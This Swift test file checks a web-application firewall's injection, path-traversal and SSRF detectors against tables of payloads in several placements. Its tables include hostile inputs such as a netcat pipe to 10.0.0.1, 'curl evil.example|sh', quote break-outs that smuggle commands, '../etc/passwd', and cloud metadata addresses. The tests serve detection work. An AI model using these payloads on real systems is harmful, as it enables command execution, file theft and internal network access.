import Testing
@testable import RampartWAF

/// Table-driven placement tests: the same payloads put where a developer would put them — unquoted, in single
/// quotes, in double quotes, as an argv element, behind a `sh -c`, after a directory prefix, in the host or the
/// path of a URL — with the verdict each placement must get.
@Suite struct RaspPlacementTests {
    /// A shell payload and whether it breaks out when placed unquoted, inside '…', inside "…".
    struct ShellPayload: Sendable, CustomTestStringConvertible {
        var text: String
        var unquoted: Bool
        var singleQuoted: Bool
        var doubleQuoted: Bool
        var testDescription: String { text }
    }

    static let shellPayloads: [ShellPayload] = [
        // Operators and words: break out unquoted only.
        .init(text: "x; id", unquoted: true, singleQuoted: false, doubleQuoted: false),
        .init(text: "x;id", unquoted: true, singleQuoted: false, doubleQuoted: false),
        .init(text: "x && id", unquoted: true, singleQuoted: false, doubleQuoted: false),
        .init(text: "x || id", unquoted: true, singleQuoted: false, doubleQuoted: false),
        .init(text: "x | nc 10.0.0.1 4444", unquoted: true, singleQuoted: false, doubleQuoted: false),
        .init(text: "x|sh", unquoted: true, singleQuoted: false, doubleQuoted: false),
        .init(text: "x & id", unquoted: true, singleQuoted: false, doubleQuoted: false),
        .init(text: "x\nid", unquoted: true, singleQuoted: false, doubleQuoted: false),
        .init(text: "x > /tmp/p", unquoted: true, singleQuoted: false, doubleQuoted: false),
        .init(text: "x</etc/passwd", unquoted: true, singleQuoted: false, doubleQuoted: false),
        .init(text: "x 2>&1", unquoted: true, singleQuoted: false, doubleQuoted: false),
        .init(text: "x #", unquoted: true, singleQuoted: false, doubleQuoted: false),
        .init(text: "a b", unquoted: true, singleQuoted: false, doubleQuoted: false),
        .init(text: "-x --y", unquoted: true, singleQuoted: false, doubleQuoted: false),
        .init(text: "(id)", unquoted: true, singleQuoted: false, doubleQuoted: false),
        // Substitutions: also expanded inside double quotes.
        .init(text: "$(id)", unquoted: true, singleQuoted: false, doubleQuoted: true),
        .init(text: "`id`", unquoted: true, singleQuoted: false, doubleQuoted: true),
        .init(text: "${IFS}id", unquoted: true, singleQuoted: false, doubleQuoted: true),
        .init(text: "$HOME", unquoted: true, singleQuoted: false, doubleQuoted: true),
        .init(text: "x$(curl evil.example|sh)", unquoted: true, singleQuoted: false, doubleQuoted: true),
        .init(text: "$((7*7))", unquoted: true, singleQuoted: false, doubleQuoted: true),
        // Quote break-outs: balanced quotes keep an unquoted placement in one word (`x'; id; '` is the single
        // argument `x; id; `), but close the developer's quotes.
        .init(text: "x'; id; '", unquoted: false, singleQuoted: true, doubleQuoted: false),
        .init(text: "x' '", unquoted: false, singleQuoted: true, doubleQuoted: false),
        .init(text: "x\"; id; \"", unquoted: false, singleQuoted: false, doubleQuoted: true),
        .init(text: "x\" \"", unquoted: false, singleQuoted: false, doubleQuoted: true),
        .init(text: "x'$(id)'", unquoted: false, singleQuoted: true, doubleQuoted: true),
        // Confined everywhere.
        .init(text: "8.8.8.8", unquoted: false, singleQuoted: false, doubleQuoted: false),
        .init(text: "example.com", unquoted: false, singleQuoted: false, doubleQuoted: false),
        .init(text: "report_2024", unquoted: false, singleQuoted: false, doubleQuoted: false),
        .init(text: "host-01.internal", unquoted: false, singleQuoted: false, doubleQuoted: false),
        .init(text: "a=b,c:d", unquoted: false, singleQuoted: false, doubleQuoted: false),
        .init(text: "100%", unquoted: false, singleQuoted: false, doubleQuoted: false),
        .init(text: "*.png", unquoted: false, singleQuoted: false, doubleQuoted: false),
        .init(text: "Zürich", unquoted: false, singleQuoted: false, doubleQuoted: false),
        .init(text: "x#y", unquoted: false, singleQuoted: false, doubleQuoted: false),
        .init(text: "a\\ b", unquoted: false, singleQuoted: false, doubleQuoted: false),
        .init(text: "5$", unquoted: false, singleQuoted: false, doubleQuoted: false),
        .init(text: "$5.00", unquoted: false, singleQuoted: false, doubleQuoted: false),
        .init(text: "user@example.com", unquoted: false, singleQuoted: false, doubleQuoted: false),
        .init(text: "https://example.com/a", unquoted: false, singleQuoted: false, doubleQuoted: false),
    ]

    static let shellTemplates: [(prefix: String, suffix: String)] = [("ping -c 1 ", ""), ("convert ", " /tmp/out.png")]

    @Test(arguments: shellPayloads)
    func shellPlacements(_ payload: ShellPayload) {
        let parameters = RaspTestSupport.query(payload.text)
        for (prefix, suffix) in Self.shellTemplates {
            for (open, close, expected) in [("", "", payload.unquoted), ("'", "'", payload.singleQuoted), ("\"", "\"", payload.doubleQuoted)] {
                let command = prefix + open + payload.text + close + suffix
                let finding = ShellInjectionDetector.detect(commandLine: command, parameters: parameters)
                #expect((finding != nil) == expected, "\(command): \(finding?.reason ?? "no finding")")
            }
        }
    }

    @Test(arguments: shellPayloads)
    func argvPlacements(_ payload: ShellPayload) {
        let parameters = RaspTestSupport.query(payload.text)
        let placements: [([String], Bool)] = [
            (["/usr/bin/ping", "-c", "1", payload.text], false),
            (["/usr/bin/git", "clone", payload.text, "/tmp/repo"], false),
            (["sh", "-c", "ping -c 1 " + payload.text], payload.unquoted),
            (["bash", "-c", "ping -c 1 '" + payload.text + "'"], payload.singleQuoted),
            (["/usr/bin/env", "sh", "-c", "git log --author=\"" + payload.text + "\" -n 5"], payload.doubleQuoted),
        ]
        for (arguments, expected) in placements {
            let finding = CommandInjectionDetector.detect(arguments: arguments, parameters: parameters)
            #expect((finding != nil) == expected, "\(arguments): \(finding?.reason ?? "no finding")")
        }
    }

    struct PathPayload: Sendable, CustomTestStringConvertible {
        var text: String
        var climbs: Bool
        var testDescription: String { text }
    }

    static let pathPayloads: [PathPayload] = [
        .init(text: "../etc/passwd", climbs: true), .init(text: "../../x", climbs: true),
        .init(text: "..\\..\\x", climbs: true), .init(text: "a/../../x", climbs: true), .init(text: "./../x", climbs: true),
        .init(text: "..", climbs: true), .init(text: "../", climbs: true), .init(text: "x/../../../y", climbs: true),
        .init(text: "a/b/../../../c", climbs: true), .init(text: "..//x", climbs: true), .init(text: ".\\..\\x", climbs: true),
        .init(text: "a.png", climbs: false), .init(text: "my..file.txt", climbs: false), .init(text: "a/b/c.txt", climbs: false),
        .init(text: "a/../b.txt", climbs: false), .init(text: "..a", climbs: false), .init(text: "a..", climbs: false),
        .init(text: "...", climbs: false), .init(text: ".hidden", climbs: false), .init(text: "v1.2/x", climbs: false),
        .init(text: "./x", climbs: false), .init(text: "a/./b/../c", climbs: false), .init(text: "%2e%2e/x", climbs: false),
    ]

    @Test(arguments: pathPayloads)
    func pathPlacements(_ payload: PathPayload) {
        for prefix in ["/var/www/uploads/", "/srv/app/public/images/", "C:\\app\\files\\", "uploads/"] {
            let path = prefix + payload.text
            let finding = PathTraversalDetector.detect(path: path, parameters: RaspTestSupport.query(payload.text))
            #expect((finding != nil) == payload.climbs, "\(path): \(finding?.reason ?? "no finding")")
        }
    }

    struct HostPayload: Sendable, CustomTestStringConvertible {
        var text: String
        var isInternal: Bool
        var testDescription: String { text }
    }

    static let hostPayloads: [HostPayload] = [
        .init(text: "127.0.0.1", isInternal: true), .init(text: "localhost", isInternal: true),
        .init(text: "10.1.2.3", isInternal: true), .init(text: "192.168.0.10", isInternal: true),
        .init(text: "172.20.0.1", isInternal: true), .init(text: "169.254.169.254", isInternal: true),
        .init(text: "[::1]", isInternal: true), .init(text: "0x7f000001", isInternal: true),
        .init(text: "2130706433", isInternal: true), .init(text: "0177.0.0.1", isInternal: true),
        .init(text: "127.1", isInternal: true), .init(text: "[::ffff:127.0.0.1]", isInternal: true),
        .init(text: "metadata.google.internal", isInternal: true), .init(text: "[fd00:ec2::254]", isInternal: true),
        .init(text: "0.0.0.0", isInternal: true), .init(text: "LocalHost.", isInternal: true),
        .init(text: "example.com", isInternal: false), .init(text: "8.8.8.8", isInternal: false),
        .init(text: "api.example.net", isInternal: false), .init(text: "1.1.1.1", isInternal: false),
        .init(text: "cdn.example.org", isInternal: false), .init(text: "93.184.216.34", isInternal: false),
        .init(text: "[2606:4700::1111]", isInternal: false),
    ]

    @Test(arguments: hostPayloads)
    func urlPlacements(_ payload: HostPayload) {
        let parameters = RaspTestSupport.query(payload.text)
        for template in ["http://{}/status", "https://{}:8443/x", "http://{}"] {
            let url = template.replacingOccurrences(of: "{}", with: payload.text)
            let finding = SSRFDetector.detect(url: url, parameters: parameters)
            #expect((finding != nil) == payload.isInternal, "\(url): \(finding?.reason ?? "no finding")")
        }
        // In the path or the query the same text is data.
        for template in ["https://api.partner.example/v1/users/{}", "https://api.partner.example/v1/search?q={}"] {
            let url = template.replacingOccurrences(of: "{}", with: payload.text)
            let finding = SSRFDetector.detect(url: url, parameters: parameters)
            #expect(finding == nil, "\(url): \(finding?.reason ?? "")")
        }
    }

    @Test(arguments: pathPayloads)
    func urlPathTraversal(_ payload: PathPayload) {
        let url = "https://api.partner.example/v1/users/" + payload.text
        let finding = SSRFDetector.detect(url: url, parameters: RaspTestSupport.query(payload.text))
        // `%2e%2e` is a `..` to a server that decodes the path before routing.
        let expected = payload.climbs || payload.text.hasPrefix("%2e%2e")
        #expect((finding != nil) == expected, "\(url): \(finding?.reason ?? "no finding")")
    }
}
